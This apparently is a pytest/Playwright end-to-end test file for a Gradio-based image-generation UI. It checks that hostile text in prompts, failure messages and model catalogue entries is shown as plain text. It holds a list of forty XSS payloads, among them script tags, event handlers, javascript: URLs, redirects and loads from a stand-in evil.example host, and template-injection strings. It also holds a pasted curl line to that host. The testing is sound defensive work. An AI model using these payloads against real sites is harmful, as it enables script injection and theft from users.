"""Hostile text stays text: forty ways to become a script, wherever text of others is shown.

As prompt, negative prompt, failure of the platform, and as a model's and its parameters' names in
the user's own models.toml. Every page is visited; none may run, load, ask or insert anything.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Locator, Page, expect

from tests.e2e.conftest import program, watched
from tests.e2e.create_page import told_the_deal
from tests.e2e.until import until
from tests.e2e.visits import Visits
from tests.http import faults as f

pytestmark = [
    pytest.mark.wide,
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.xdist_group("hostile-text"),
]

EVIL = "http://evil.example"
RUN = "window.__xss=1;alert(1)"

STRINGS = (
    f"<script data-xss>{RUN}</script>",
    f"<script data-xss src={EVIL}/x.js></script>",
    f"<ScRiPt data-xss>{RUN}</sCrIpT >",
    f"<<script data-xss>{RUN}//<</script>",
    f'<img data-xss src=x onerror="{RUN}">',
    f"<img data-xss src='{EVIL}/x.png'>",
    f"<img/data-xss/src=`x`/onerror={RUN}>",
    f'<svg data-xss onload="{RUN}">',
    f"<svg data-xss><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg data-xss><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>',
    f'<a data-xss href="javascript:{RUN}">a link</a>',
    f'<a data-xss href="jav&#x09;ascript:{RUN}">a link</a>',
    f'<iframe data-xss srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe data-xss src="javascript:{RUN}"></iframe>',
    f'<object data-xss data="{EVIL}/x.swf"></object>',
    f'<embed data-xss src="data:text/html,<script>{RUN}</script>">',
    f'<form data-xss action="{EVIL}"><button formaction="javascript:{RUN}">Go</button></form>',
    f'<input data-xss autofocus onfocus="{RUN}">',
    f'<details data-xss open ontoggle="{RUN}"><summary>s</summary></details>',
    f'<video data-xss><source onerror="{RUN}"></video>',
    f'<body data-xss onload="{RUN}">',
    f'<marquee data-xss onstart="{RUN}">x</marquee>',
    f'<meta data-xss http-equiv="refresh" content="0;url={EVIL}">',
    f'<base data-xss href="{EVIL}/">',
    f'<link data-xss rel="stylesheet" href="{EVIL}/x.css">',
    f"<style data-xss>@import '{EVIL}/x.css'; body {{ display: none }}</style>",
    f'<div data-xss style="background: url({EVIL}/x.png)">x</div>',
    f'<math data-xss><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f'"><img data-xss src=x onerror="{RUN}">',
    f"' data-xss autofocus onfocus='{RUN}",
    f"</textarea></title></p></span><script data-xss>{RUN}</script>",
    f"<!--><img data-xss src=x onerror={RUN}>-->",
    f"<![CDATA[<script data-xss>{RUN}</script>]]>",
    f"${{{RUN}}} ${{this.constructor.constructor('{RUN}')()}}",
    f"{{{{constructor.constructor('{RUN}')()}}}} {{% raw %}} #{{7*7}} <%= 7*7 %>",
    f"![picture]({EVIL}/x.png) [link](javascript:{RUN}) <{EVIL}> {EVIL} **bold** _slanted_",
    f"```html\n<b data-xss>{RUN}</b>\n```",
    f"\u202e<script data-xss>{RUN}</script>\u202c \uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\\u003cscript data-xss\\u003e{RUN}\\u003c/script\\u003e &lt;img data-xss src=x&gt;",
    f"javascript:{RUN}//--></script></style>`'\"; {RUN}; data:text/html;base64,PHNjcmlwdD4=",
)
ALL = " ".join(STRINGS)
LINE = " ".join(ALL.split())
HALVES = (" ".join(STRINGS[:20]), " ".join(STRINGS[20:]))
NOTE = f"Notes: {LINE}"  # what Gradio would read as Markdown with HTML in it

MODEL = "evil/model"
CATALOGUE = f"""
[[model]]
id = "{MODEL}"
label = {{label}}
description = {{text}}
[model.params]
prompt = {{{{}}}}
negative_prompt = {{{{ label = {{label}}, help = {{help}} }}}}
num_steps = {{{{ label = {{label}}, help = {{help}} }}}}
seed = {{{{ label = {{label}}, help = {{help}} }}}}
style = {{{{ kind = "text", default = {{label}}, choices = [{{label}}, "b"], help = {{help}} }}}}
"""

# A parameter's help is shown by Gradio, which makes links and emphasis of these (ui/form.py).
ALIKE = str.maketrans({"\u2217": "*", "\u02cb": "`", "\u02cd": "_", "\u2060": None})

INJECTED = """() => [
  ...document.querySelectorAll("[data-xss], iframe, object, embed, marquee, math"),
  ...document.querySelectorAll("form[action]:not([action='/api/export'])"),
  ...document.querySelectorAll("meta[http-equiv], base:not([href='./'])"),
  ...document.querySelectorAll("a[href^='javascript'], a[href*='evil']"),
  ...document.querySelectorAll("img:not([src^='/images/'], [src^='/thumbs/'], .starts img)"),
  ...document.querySelectorAll("#controls :is(b, strong, em, a, code, img):not(.basis *, " +
    "a[href='/experiments#wildcards'])"),
  ...document.querySelectorAll(".card :is(b, em), .basis :is(b, em, a, code)"),
  ...document.querySelectorAll("[onerror], [onload], [onfocus], [ontoggle], [onstart]"),
].filter((node) => !node.closest("#setup"))
 .map((node) => node.outerHTML.slice(0, 200))"""


@pytest.fixture(scope="module")
def platform() -> Iterator[f.FaultServer]:
    with f.FaultServer.in_thread() as server:
        yield server


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory, platform: f.FaultServer) -> Iterator[str]:
    data: Path = tmp_path_factory.mktemp("hostile") / "data"
    data.mkdir()
    words = {"label": STRINGS[4] + LINE, "text": LINE, "help": NOTE}
    catalogue = CATALOGUE.format(**{name: json.dumps(text) for name, text in words.items()})
    (data / "models.toml").write_text(catalogue, encoding="utf-8")
    with program(data, platform=platform.base_url) as url:
        yield url


@pytest_asyncio.fixture(loop_scope="session")
async def page(visits: Visits, address: str) -> AsyncIterator[Page]:
    async with visits.page(address) as page:
        strangers, errors = watched(page, address)
        page.on("dialog", lambda dialog: errors.append(f"dialog: {dialog.message}"))
        yield page
    assert strangers + errors == []


async def harmless(page: Page) -> None:
    """Check that nothing was inserted, run or hidden on the page as it stands."""
    assert await page.evaluate(INJECTED) == []
    assert await page.evaluate("window.__xss") is None
    assert await page.evaluate("getComputedStyle(document.body).display") != "none"


async def literally(where: Locator, text: str) -> None:
    """Check that `where` shows `text`, character by character, blanks aside."""
    await expect(where.first).not_to_be_empty()
    shown = str(await where.first.evaluate("(node) => node.textContent")).translate(ALIKE)
    assert " ".join(text.split()) in " ".join(shown.split())


async def opened(page: Page, path: str = "/") -> None:
    await page.goto(path)
    await told_the_deal(page)


async def asked(page: Page, prompt: str, state: str) -> Locator:
    before = await page.locator(".batch").count()
    await page.locator("#prompt textarea").fill(prompt)
    await page.locator("#prompt textarea").press("Enter")
    await expect(page.locator(".batch")).to_have_count(before + 1)
    batch = page.locator(".batch").first
    await expect(batch.locator(".card")).to_have_attribute("data-state", state)
    return batch


async def test_there_are_forty_of_them() -> None:
    assert len(set(STRINGS)) == 40


async def test_a_hostile_catalogue_is_shown_as_it_is_written(page: Page) -> None:
    await opened(page)
    chosen = page.locator("#model label", has=page.locator(f'input[value="{MODEL}"]'))
    await literally(chosen, STRINGS[4] + LINE)
    await page.locator(f'#model input[value="{MODEL}"]').check()
    await expect(page.locator("#style")).to_be_visible()
    for name in ("negative_prompt", "num_steps", "seed", "style"):
        await literally(page.locator(f"#{name}"), NOTE)
        if name != "style":
            await literally(page.locator(f"#{name}"), STRINGS[4] + LINE)
    await literally(page.locator("#style option").first, STRINGS[4] + LINE)
    await harmless(page)
    await page.locator('#model input[value="stabilityai/stable-diffusion-xl-base-1.0"]').check()
    await page.locator(f'#model input[value="{MODEL}"]').check()  # the same by an update
    await literally(page.locator("#seed"), NOTE)
    await harmless(page)


async def test_hostile_prompts_stay_text_on_every_page(page: Page) -> None:
    await opened(page)
    await page.locator(f'#model input[value="{MODEL}"]').check()
    await expect(page.locator("#style")).to_be_visible()
    await page.locator("#snippet summary").click()
    for half in HALVES:
        await page.locator("#negative_prompt textarea").fill(half)
        batch = await asked(page, half, "saved")
        await literally(batch.locator("h3"), half)
        await literally(batch.locator(".card .facts"), STRINGS[4] + LINE)
        marker = "ontoggle" if half == HALVES[0] else "xlink:href"
        await expect(page.locator("#code-curl code")).to_contain_text(marker)
        await harmless(page)
        await batch.locator("button.frame").click()
        dialog = page.get_by_role("dialog")
        for section in (0, 1):
            await literally(dialog.locator(".prompt").nth(section), half)
        await expect(dialog.locator("dl div")).not_to_have_count(0)
        await literally(dialog.locator("dl"), STRINGS[4] + LINE)
        await harmless(page)
        await page.keyboard.press("Escape")
        # Closing is a step back in the history: a reload before it is done would be lost.
        await until(page, "() => !location.search.includes('view=')")
    await page.reload()
    await expect(page.locator(".batch h3")).to_have_count(2)
    await literally(page.locator(".batch h3"), HALVES[1])
    await harmless(page)
    await page.goto("/gallery")
    await literally(page.locator("#gallery .what"), HALVES[1][:80])
    await harmless(page)
    await page.locator("#gallery button.open").first.click()
    await literally(page.get_by_role("dialog").locator(".prompt"), HALVES[1])
    await harmless(page)
    await page.get_by_role("link", name="Reuse all settings").click()
    await expect(page.locator("#prompt textarea")).to_have_value(HALVES[1])
    await harmless(page)
    await page.goto("/settings")
    await page.locator("#setup-pasted").fill(f"curl '{EVIL}/<b data-xss>' {ALL}")
    await expect(page.locator("#setup .found")).not_to_be_empty()
    await harmless(page)


async def test_hostile_failures_of_the_platform_stay_text(
    page: Page, platform: f.FaultServer
) -> None:
    await opened(page)
    for start in range(0, 40, 2):  # two at a time: a long quotation is cut
        said = f"{STRINGS[start]} {STRINGS[start + 1]}"
        failed = start % 4 == 0
        platform.script(
            f.status(402, said)
            if failed
            else f.raw(json.dumps({"status": "failed", "message": said}))
        )
        batch = await asked(page, f"a failure {start}", "failed" if failed else "unknown")
        shown = await batch.locator(".trouble").text_content()
        printable = "".join(sign for sign in said if sign.isprintable() or sign.isspace())
        assert " ".join(printable.split())[:150] in " ".join(str(shown).split())
    await harmless(page)
    await page.reload()
    await expect(page.locator(".batch", has_text="a failure 38")).to_have_count(1)
    await harmless(page)
